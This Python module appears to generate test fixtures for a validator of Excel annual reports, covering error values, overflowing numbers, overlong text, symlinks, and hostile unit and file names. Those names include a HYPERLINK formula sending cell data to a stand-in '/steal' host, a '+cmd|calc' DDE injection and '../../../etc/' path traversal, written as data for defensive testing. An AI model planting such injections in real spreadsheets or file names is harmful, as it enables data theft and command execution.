def case_error_values(folder: Path) -> Case:
    """Excel error values (#REF!, #DIV/0!, #N/A) in input cells."""
    data = report_bytes(folder, agency_of(918), seed=108)
    data = with_cells(
        data,
        {
            "s3.r1.c2": (b"<v>#REF!</v>", "e"),
            "s3.r1.c3": (b"<f>1/0</f><v>#DIV/0!</v>", "e"),
            "s2_5.r1.c1": (b"<v>#N/A</v>", "e"),
        },
    )
    return _case("error_values", write(folder / "错误值.xlsx", data), REJECTED, "value-error")


@case
def case_dates_and_booleans(folder: Path) -> Case:
    """A date and a logical value (TRUE) typed into number cells."""
    src = report(folder / "db.tmp.xlsx", agency_of(919), seed=109)

    def edit(wb: Any) -> None:
        s, a = place("s3.r1.c2")
        wb[s][a] = dt.date(2025, 1, 2)
        s, a = place("s3.r1.c3")
        wb[s][a] = True

    path = openpyxl_edit(src, folder / "日期和逻辑值.xlsx", edit)
    src.unlink()
    return _case("dates_and_booleans", path, REJECTED, "value-date", "value-bool")


@case
def case_huge_numbers(folder: Path) -> Case:
    """2^63 and 1e308 in count cells, and numbers that overflow to infinity or are not numbers."""
    data = report_bytes(folder, agency_of(920), seed=110)
    data = with_cells(
        data,
        {
            "s3.r1.c2": (b"<v>9223372036854775808</v>", None),
            "s3.r1.c3": (b"<v>1E+308</v>", None),
            "s3.r1.c4": (b"<v>1e309</v>", None),
            "s3.r1.c5": (b"<v>NaN</v>", None),
            "s3.r1.c6": (b"<v>-1e309</v>", None),
        },
    )
    return _case("huge_numbers", write(folder / "天文数字.xlsx", data), REJECTED, "value-too-large")


@case
def case_long_text(folder: Path) -> Case:
    """100,000 characters in a text cell (an office suite stops at 32,767; a program does not)."""
    data = report_bytes(folder, agency_of(921), seed=111)
    text = ("本年度" + "公开" * 50_000)[:100_000].encode()
    data = with_cells(data, {"text.s1": (b"<is><t>" + text + b"</t></is>", "inlineStr")})
    return _case("long_text", write(folder / "十万字.xlsx", data), REJECTED, "text-too-long")


# ---- hostile names ----------------------------------------------------------------------------------

CONTROL_NAME = "云溪市\x07控制\x1b字符\u202e局😀\u200b"
FORMULA_NAME = '=HYPERLINK("http://example.invalid/steal?x="&A1,"点击查看")'
TRAVERSAL_NAME = "../../../etc/云溪市穿越局"
WINDOWS_NAME = 'CON<云溪>:市"局/\\|?*.'


def _named(folder: Path, name: str, file: str, agency: str, seed: int) -> Case:
    if os.name == "nt":  # Windows itself refuses such file names (the unit name inside stays hostile)
        file = f"{name}.xlsx"
    path = report(folder / file, agency, seed=seed)
    return _case(name, path, WARNING, "unit-unknown", agency=agency, on_roster=False)


@case
def case_control_name(folder: Path) -> Case:
    """Control characters, a bidi override, a zero-width space and an emoji in the unit name."""
    return _named(folder, "control_name", "控制字符😀.xlsx", CONTROL_NAME, 31)


@case
def case_formula_name(folder: Path) -> Case:
    """A unit name that is a formula (=HYPERLINK(...)); the file name starts with = too."""
    return _named(folder, "formula_name", '=HYPERLINK("http x")+cmd|calc!A1.xlsx', FORMULA_NAME, 32)


@case
def case_traversal_name(folder: Path) -> Case:
    """A unit name like ../../x (and a file name with ..\\..\\)."""
    return _named(folder, "traversal_name", "上级目录..\\..\\穿越.xlsx", TRAVERSAL_NAME, 33)


@case
def case_windows_name(folder: Path) -> Case:
    """A unit name and a file name with characters Windows forbids (and the device name CON)."""
    return _named(folder, "windows_name", 'CON<年报>:"|?*.xlsx', WINDOWS_NAME, 34)


LONG_NAME = "云溪市某某局 关于报送 2025 年度政府信息公开工作年度报告的函 " + "final  version  " * 10 + "(1).xlsx"


@case
def case_long_file_name(folder: Path) -> Case:
    """A file name with Chinese, spaces and over 200 characters (within the 255-byte limit of Linux)."""
    agency = agency_of(16)
    assert len(LONG_NAME) > 200 and len(LONG_NAME.encode()) <= 255, (len(LONG_NAME), len(LONG_NAME.encode()))
    path = report(folder / LONG_NAME, agency, seed=26, texts={"info.phone": ""})  # a notice: feedback is written
    return _case("long_file_name", path, ACCEPTED, "contact-missing", agency=agency)


@case
def case_same_name_a(folder: Path) -> Case:
    """Two files with the same name in different subfolders, of one unit (the first)."""
    path = report(folder / "东湖区" / "年报.xlsx", agency_of(922), seed=112, changes={"s3.r4.c1": 99})
    return _case("same_name_a", path, REJECTED, "E1")


@case
def case_same_name_b(folder: Path) -> Case:
    """Two files with the same name in different subfolders, of one unit (the second)."""
    path = report(folder / "西山县" / "年报.xlsx", agency_of(922), seed=113, changes={"s3.r4.c1": 98})
    return _case("same_name_b", path, REJECTED, "E1")


# ---- all of them ----------------------------------------------------------------------------------


def good_reports(folder: Path, n: int, first: int = 100) -> list[Case]:
    """`n` clean reports of roster units (agency_of(first) …): the files the bad ones must not disturb."""
    made = []
    for i in range(first, first + n):
        agency = agency_of(i)
        path = report(folder / f"{agency}.xlsx", agency, seed=i)
        made.append(Case(f"good_{i}", path, ACCEPTED, (), agency, "a clean report"))
    return made


def make_cases(folder: Path, names: Iterable[str] | None = None) -> list[Case]:
    """Write the cases (all, or those named) into `folder`; LibreOffice cases only where soffice exists."""
    folder.mkdir(parents=True, exist_ok=True)
    chosen = list(names) if names is not None else list(CASES)
    made = [CASES[n](folder) for n in chosen if SOFFICE or n not in SOFFICE_CASES]
    shutil.rmtree(folder / ".soffice", ignore_errors=True)
    _made.pop(folder, None)
    return made


def roster_rows(cases: Iterable[Case]) -> list[list[str]]:
    """A roster (单位名称, 单位代码, 所属分组, 别名) listing every readable case's agency that belongs on it."""
    rows = [["单位名称", "单位代码", "所属分组", "别名"]]
    rows += [[c.agency, "", "市直部门", ""] for c in cases if c.agency and c.on_roster]
    return rows


# ---- batch-level set-ups -----------------------------------------------------------------------------


def symlinks(inbox: Path, outside: Path) -> tuple[Path, Path]:
    """A symbolic link to a workbook outside the inbox, and one to a folder outside it (POSIX)."""
    target = report(outside / "外部文件.xlsx", agency_of(930), seed=130)
    (outside / "外部文件夹").mkdir(exist_ok=True)
    report(outside / "外部文件夹" / "外部.xlsx", agency_of(931), seed=131)
    file_link = inbox / "链接到外部.xlsx"
    dir_link = inbox / "链接到外部文件夹"
    os.symlink(target, file_link)
    os.symlink(outside / "外部文件夹", dir_link, target_is_directory=True)
    return file_link, dir_link
